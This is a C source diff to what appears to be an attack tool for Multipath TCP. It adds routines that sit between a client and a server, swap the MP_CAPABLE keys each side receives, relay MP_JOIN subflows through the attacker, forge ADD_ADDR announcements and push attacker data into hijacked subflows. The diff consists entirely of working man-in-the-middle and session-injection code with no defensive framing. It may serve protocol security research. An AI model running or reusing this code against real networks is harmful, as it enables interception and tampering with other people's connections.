@@ -179,11 +179,118 @@ bool cmd_cross(void)
 	return true;
 }
 
+/* What belongs to @held, from the other host to the server or back, as it is */
+static void relay(struct frame *frame, const struct segment *segment)
+{
+	const struct link *link = same_endpoint(&segment->from, &held) ?
+					  &links[0][SERVER] :
+					  &links[OTHER_HOST][CLIENT];
+
+	memcpy(segment->eth->ether_shost, link->mac, ETH_ALEN);
+	memcpy(segment->eth->ether_dhost, link->peer_mac, ETH_ALEN);
+	send_frame(link, frame);
+}
+
+/* A join between @held and the server, from its SYN to its ACK, which are left in @segment */
+static bool relay_join(int64_t until, struct frame *frame,
+		       struct segment *segment)
+{
+	const uint8_t *join;
+
+	for (;;) {
+		relay(frame, segment);
+		join = find_mptcp(segment, MP_JOIN);
+		if (segment->tcp->rst)
+			return false;
+		if (join && join[1] == JOIN_ACK_LEN)
+			return true;
+		do {
+			if (!pump(until, false, frame))
+				return false;
+		} while (!parse_segment(frame, segment) ||
+			 (!same_endpoint(&segment->from, &held) &&
+			  !same_endpoint(&segment->to, &held)));
+	}
+}
+
+/* The other host's join, whose SYN this is, and bytes of the attacker's behind it */
+static void be_in_the_middle(const struct connection *x, int64_t until,
+			     struct frame *frame, struct segment *segment)
+{
+	struct attempt join = { .with = SERVER,
+				.from = segment->from,
+				.to = segment->to };
+	enum answer answer = SILENT;
+
+	held = segment->from;
+	if (!relay_join(until, frame, segment)) {
+		printf(" relayed=%s",
+		       answers[segment->tcp->rst ? REFUSED : SILENT]);
+		return;
+	}
+	join.seq = segment->seq;
+	join.peer_seq = segment->ack;
+	while (answer == SILENT &&
+	       next_segment(&join, now_ms() + patience_ms, frame, segment))
+		answer = segment->tcp->rst ? REFUSED :
+			 segment->tcp->syn ? SILENT :
+					     ANSWERED;
+	printf(" relayed=answered ack=%s", answers[answer]);
+	if (answer == ANSWERED)
+		printf(" data=%s",
+		       answers[send_data(&join, x, arg_number("bytes", "0"),
+					 0)]);
+}
+
+/* The other host's ADD_ADDR is the client's to the server; and what the server begins there */
+static void pass_address(int64_t until)
+{
+	struct segment segment;
+	struct connection *x;
+	struct frame frame, announcement;
+	const uint8_t *option, *join = NULL;
+
+	option = hear_other(MP_ADD_ADDR, until, &frame, &segment);
+	printf(" announced=%d", option != NULL);
+	for (x = last_connection(); option && !x; x = last_connection())
+		if (now_ms() > until ||
+		    !pump(now_ms() + 10, false, &announcement))
+			option = now_ms() > until ? NULL : option;
+	if (!option)
+		return;
+	send_frame(make_next(&announcement, x, SERVER, option, option[1]),
+		   &announcement);
+
+	watch = true;
+	while (!join && pump(until, false, &frame)) {
+		join = parse_segment(&frame, &segment) &&
+				       segment.from.addr ==
+					       x->ends[SERVER].addr ?
+			       find_mptcp(&segment, MP_JOIN) :
+			       NULL;
+		if (join && join[1] != JOIN_SYN_LEN)
+			join = NULL;
+	}
+	printf(" begun=%s", answers[join ? ANSWERED : SILENT]);
+	if (!join)
+		return;
+	held = segment.to;
+	printf(" joined=%d", relay_join(until, &frame, &segment));
+	/* The last ACK, and what they say then */
+	until = now_ms() + patience_ms;
+	while (pump(until, false, &frame))
+		if (parse_segment(&frame, &segment) &&
+		    (same_endpoint(&segment.from, &held) ||
+		     same_endpoint(&segment.to, &held)))
+			relay(&frame, &segment);
+}
+
 /*
  * The same with a connection that another host opens, which gets the attacker. It has waited
  * for its SYN/ACK, and gets the key of the server of the client's connection; and that one gets
  * its key for the client's. So the one is what the other expects, from either side: its join
- * is one to the client's connection, by way of from=ADDR.
+ * is one to the client's connection, by way of from=ADDR; or, by=path, from where it comes, with
+ * the attacker in the middle. Or what=add-addr: it announces an address, where the server joins.
  */
 bool cmd_cross_lured(void)
 {
@@ -219,10 +326,18 @@ bool cmd_cross_lured(void)
 	/* The ACK alone has them first, and then the byte again */
 	if (!take_first_byte(until))
 		return false;
+	if (arg_is("what", "add-addr", "join")) {
+		pass_address(until);
+		return true;
+	}
 	join = hear_other(MP_JOIN, until, &frame, &segment);
 	printf(" begun=%s", answers[join ? ANSWERED : SILENT]);
 	if (!join)
 		return true;
+	if (arg_is("by", "path", "address")) {
+		be_in_the_middle(&x, until, &frame, &segment);
+		return true;
+	}
 	if (!copy_answered(&attempt, &x, join))
 		return true;
 	send_synack(OTHER_HOST, CLIENT, &segment, attempt.synack,
@@ -234,5 +349,70 @@ bool cmd_cross_lured(void)
 	printf(" other=%s", answers[join ? ANSWERED : SILENT]);
 	if (join)
 		end_join(&attempt, &x, join + 4);
+	return true;
+}
+
+/*
+ * In the middle of the client's first subflow: the client gets the key of another host, with which
+ * the attacker has a connection, path=3 from=ADDR to=ADDR to_port=N with=client, and that one the
+ * key of the client. What it announces there is what the client's server announces.
+ */
+bool cmd_cross_middle(void)
+{
+	struct plan syn = { .flags = TH_SYN, .options_len = CAPABLE_SYN_LEN };
+	struct plan ack = { .flags = TH_ACK, .options_len = CAPABLE_ACK_LEN };
+	int64_t until = now_ms() + 20 * patience_ms;
+	uint8_t *capable = NULL, *option = NULL;
+	struct connection nobody = { 0 }, *x;
+	struct segment synack, segment;
+	uint64_t key_client, key_other;
+	struct attempt own;
+	struct frame frame;
+
+	fflush(stdout);
+	start_attempt(&own, &nobody, &nobody, 0);
+	put_capable(syn.options, CAPABLE_SYN_LEN);
+	send_attempt(&own, &syn);
+	while (!capable && next_segment(&own, until, &frame, &synack))
+		capable = find_mptcp(&synack, MP_CAPABLE);
+	if (!capable)
+		return false;
+	key_other = get64(capable + 4);
+	own.seq++;
+	own.peer_seq = synack.seq + 1;
+
+	hold_synacks = true;
+	do {
+		if (!pump(until, false, &frame))
+			return false;
+		capable = parse_segment(&frame, &segment) ?
+				  find_mptcp(&segment, MP_CAPABLE) :
+				  NULL;
+	} while (!capable || capable[1] != CAPABLE_SYNACK_LEN ||
+		 same_endpoint(&segment.to, &own.from));
+	put64(capable + 4, key_other);
+	hold_synacks = false;
+	watch = true;
+	learn_connection(0, SERVER, &segment);
+	pass_segment(0, SERVER, &frame, &segment);
+	do {
+		if (!pump(until, false, &frame))
+			return false;
+		capable = parse_segment(&frame, &segment) ?
+				  find_mptcp(&segment, MP_CAPABLE) :
+				  NULL;
+	} while (!capable || capable[1] < CAPABLE_ACK_LEN);
+	key_client = get64(capable + 4);
+	put64(put64(put_capable(ack.options, CAPABLE_ACK_LEN), key_client),
+	      key_other);
+	send_attempt(&own, &ack);
+
+	while (!option && next_segment(&own, until, &frame, &segment))
+		option = find_mptcp(&segment, MP_ADD_ADDR);
+	x = last_connection();
+	printf(" announced=%d", option && x);
+	if (option && x)
+		send_frame(make_next(&frame, x, CLIENT, option, option[1]),
+			   &frame);
 	return true;
 }
